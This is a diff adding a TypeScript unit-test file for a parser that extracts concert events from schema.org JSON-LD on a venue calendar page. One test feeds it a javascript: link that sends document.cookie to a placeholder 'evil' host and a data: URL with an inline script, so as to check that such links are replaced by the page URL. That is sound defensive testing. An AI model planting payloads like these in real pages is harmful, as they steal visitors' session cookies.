@@ -0,0 +1,42 @@
+import assert from 'node:assert/strict'
+import { describe, it } from 'node:test'
+import { parseStructuredEvents } from '../lib/structured-data'
+
+const PAGE = 'https://venue.example.com/calendar'
+
+const block = (fields: Record<string, unknown>) => JSON.stringify({
+  '@context': 'https://schema.org',
+  '@type': 'MusicEvent',
+  name: 'Horsegirl',
+  startDate: '2025-03-01T20:00',
+  ...fields
+})
+
+describe('parseStructuredEvents', () => {
+  it('reads a MusicEvent with its offer', () => {
+    const { events, unparsed } = parseStructuredEvents([block({
+      url: '/shows/horsegirl',
+      location: { '@type': 'Place', name: 'Empty Bottle' },
+      offers: { '@type': 'Offer', price: '15', priceCurrency: 'USD' }
+    })], PAGE)
+    assert.deepEqual(unparsed, [])
+    assert.equal(events.length, 1)
+    assert.equal(events[0].venue, 'Empty Bottle')
+    assert.equal(events[0].date, 'March 1, 2025')
+    assert.equal(events[0].time, '8:00 PM')
+    assert.equal(events[0].price, '$15')
+    assert.equal(events[0].url, 'https://venue.example.com/shows/horsegirl')
+  })
+
+  it('keeps the page URL in place of links that are not http(s)', () => {
+    const { events } = parseStructuredEvents([
+      block({ url: "javascript:fetch('//evil/'+document.cookie)" }),
+      block({ name: 'Wednesday', offers: { url: 'data:text/html,<script>alert(1)</script>' } })
+    ], PAGE)
+    assert.deepEqual(events.map(event => event.url), [PAGE, PAGE])
+  })
+
+  it('returns blocks that are not JSON for the model', () => {
+    assert.deepEqual(parseStructuredEvents(['{ not json'], PAGE), { events: [], unparsed: ['{ not json'] })
+  })
+})